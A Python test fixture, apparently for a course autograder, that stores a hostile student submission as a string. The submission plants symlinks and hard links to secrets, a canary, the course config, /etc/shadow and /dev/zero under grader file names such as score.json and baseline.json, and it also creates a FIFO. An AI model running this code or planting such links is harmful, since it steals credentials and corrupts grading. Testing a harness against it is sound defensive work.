"""Plants links in every place it can write to, so that whoever reads there later reads or writes elsewhere."""

EXERCISE = "scaling_ex01"
SUBMITTED = r"""
import os
from pathlib import Path

def attack(name, *args, **kwargs):
    for folder in (".", "/tmp", os.path.expanduser("~"), *(str(p) for a in args if isinstance(a, str)
                                                            for p in [Path(a), *Path(a).parents][:3])):
        for target in ("@SECRET@", "@CANARY@", "@COURSE@/course.toml", "/etc/shadow", "/dev/zero"):
            for make in (os.symlink, os.link):
                for link in ("schedule.jsonl", "score.json", "baseline.json", "stdout"):
                    try:
                        make(target, os.path.join(folder, link))
                    except OSError:
                        pass
    try:
        os.mkfifo("pipe.json")
    except OSError:
        pass
    return {}
"""
